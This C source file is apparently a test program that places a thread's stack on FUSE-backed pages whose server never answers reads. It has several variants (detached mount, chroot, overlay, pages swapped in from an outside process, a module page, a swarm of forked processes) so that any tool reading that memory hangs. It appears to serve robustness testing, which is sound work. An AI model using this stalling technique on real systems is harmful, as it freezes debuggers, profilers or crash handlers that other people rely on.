/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * A stack on memory that nobody serves: attack_stack MODE [COUNT].
 *
 * plain: the page of a FUSE file whose server does not answer reads, its mount in plain sight.
 * detached: the mount is taken away lazily. chroot: this process sees no mounts. overlay: the page
 * belongs to an overlay over FUSE. swapped: the page is laid there by a process outside of the
 * tree, with which the memory is shared, as soon as the thread stands still, and is taken away as
 * soon as it moves. module: the first page of a module in which a thread stands. swarm: COUNT
 * processes do what plain does. Whoever reads it waits for ever, and has then stopped a bystander.
 */
#include "attack_fuse.h"
#include "instructions.h"

enum { SIZE = 0x4000 };

static atomic_int in_position;
static _Atomic pid_t on_stack;
static const struct timespec a_while = { 0, 20000000 };

/* Sleeps for 20 ms again and again, and touches no memory between. */
static void *stack_main(void *stack)
{
	prctl(PR_SET_NAME, "on-stack", 0, 0, 0);
	on_stack = (pid_t)syscall(SYS_gettid);
	in_position++;
	stand_napping(stack, &a_while);
}

static void stand_on(uint8_t *page)
{
	victim_thread(stack_main, page + 0x800, 0);
	while (!in_position)
		sched_yield();
}

static uint8_t *silent_page(const char *path)
{
	uint8_t *page = attack_map(path, NULL, SIZE, PROT_READ | PROT_WRITE);

	attack_server->silent = ATTACK_BIT(FUSE_READ);
	return page;
}

static uint8_t *swapped_page, *outside_stack;
static int swapped_file;
static pid_t target;

/* Shares the memory; not in the tree, as its parent is that of the target. */
static int outside_main(void *unused)
{
	char path[64], text[64];
	bool laid = false;
	int fd;

	(void)unused;
	prctl(PR_SET_NAME, "outside", 0, 0, 0);
	prctl(PR_SET_TIMERSLACK, 1, 0, 0, 0);
	snprintf(path, sizeof(path), "/proc/%d/task/%d/stat", target, on_stack);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	for (;;) {
		struct timespec soon = { 0, laid ? 2000000 : 40000 };
		ssize_t got = pread(fd, text, sizeof(text) - 1, 0);

		if (got <= 0)
			_exit(0);
		text[got] = '\0';
		if ((strstr(text, ") t ") != NULL) != laid) {
			laid = !laid;
			mmap(swapped_page, SIZE, PROT_READ | PROT_WRITE,
			     MAP_PRIVATE | MAP_FIXED | (laid ? 0 : MAP_ANONYMOUS),
			     laid ? swapped_file : -1, 0);
		}
		nanosleep(&soon, NULL);
	}
}

static void *idle_main(void *unused)
{
	in_position++;
	for (;;)
		pause();
	return unused;
}

/* The more threads there are, the longer all stand still before the first is read. */
static void swap_from_outside(void)
{
	enum { ROOM = 1 << 16, CROWD = 200 };

	swapped_file = open(ATTACK_FUSE "/file", O_RDONLY | O_CLOEXEC);
	swapped_page = mmap(NULL, SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	outside_stack =
		mmap(NULL, ROOM, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	attack_server->silent = ATTACK_BIT(FUSE_READ);
	target = getpid();
	for (int i = 0; i < CROWD; i++)
		victim_thread(idle_main, NULL, 64 << 10);
	while (in_position < CROWD)
		sched_yield();
	victim_thread(stack_main, swapped_page + 0x800, 0);
	while (!on_stack)
		sched_yield();
	if (clone(outside_main, outside_stack + ROOM,
		  CLONE_VM | CLONE_FILES | CLONE_PARENT | SIGCHLD, NULL) < 0)
		victim_cannot("clone");
}

static void *module_main(void *code)
{
	prctl(PR_SET_NAME, "in-module", 0, 0, 0);
	in_position++;
	((void (*)(void))code)();
	return NULL;
}

/* The first page is not needed to run. */
static void stand_in_module(void)
{
	int fd = open(ATTACK_PLACE "/module", O_RDWR | O_CREAT | O_CLOEXEC, 0755);
	uint8_t *at;

	if (fd < 0 || write(fd, attack_image, attack_image_size) < SIZE ||
	    pwrite(fd, waiting_code, sizeof(waiting_code), 0x1000) < 0)
		victim_cannot("module");
	at = mmap(NULL, SIZE, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	victim_thread(module_main, at + 0x1000, 0);
	while (!in_position)
		sched_yield();
	unlink(ATTACK_PLACE "/module");
	attack_map(ATTACK_FUSE "/file", at, 0x1000, PROT_READ);
	attack_server->silent = ATTACK_BIT(FUSE_READ);
}

/* Pages were mapped by the parent; a forked child has its threads to make itself. */
static void start_swarm(int count)
{
	uint8_t *page = silent_page(ATTACK_FUSE "/file");

	for (int i = 0; i < count; i++)
		if (fork() == 0) {
			prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
			close(STDIN_FILENO);
			close(STDOUT_FILENO);
			stack_main(page + 0x800);
		}
}

static void mount_overlay(void)
{
	mkdir(ATTACK_PLACE "/empty", 0755);
	mkdir(ATTACK_PLACE "/over", 0755);
	if (mount("overlay", ATTACK_PLACE "/over", "overlay", 0,
		  "lowerdir=" ATTACK_FUSE ":" ATTACK_PLACE "/empty"))
		victim_cannot("mount of an overlay");
}

static void stand(const char *mode, int count)
{
	if (!strcmp(mode, "overlay")) {
		stand_on(silent_page(ATTACK_PLACE "/over/file"));
	} else if (!strcmp(mode, "swapped")) {
		swap_from_outside();
	} else if (!strcmp(mode, "module")) {
		stand_in_module();
	} else if (!strcmp(mode, "swarm")) {
		start_swarm(count);
	} else {
		stand_on(silent_page(ATTACK_FUSE "/file"));
	}
	if (!strcmp(mode, "detached") && umount2(ATTACK_FUSE, MNT_DETACH))
		victim_cannot("umount");
	mkdir(ATTACK_PLACE "/jail", 0755);
	if (!strcmp(mode, "chroot") && chroot(ATTACK_PLACE "/jail"))
		victim_cannot("chroot");
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "plain";
	pid_t bystander;

	attack_begin(true);
	attack_mount(ATTACK_FUSE);
	if (!strcmp(mode, "overlay"))
		mount_overlay();
	/* These need rights for what comes next. */
	if (strcmp(mode, "detached") && strcmp(mode, "chroot") && strcmp(mode, "overlay"))
		attack_drop();
	bystander = attack_bystander();
	stand(mode, argc > 2 ? atoi(argv[2]) : 20);
	victim_ready("mode=%s bystander=%d", mode, bystander);
	victim_hold();
}
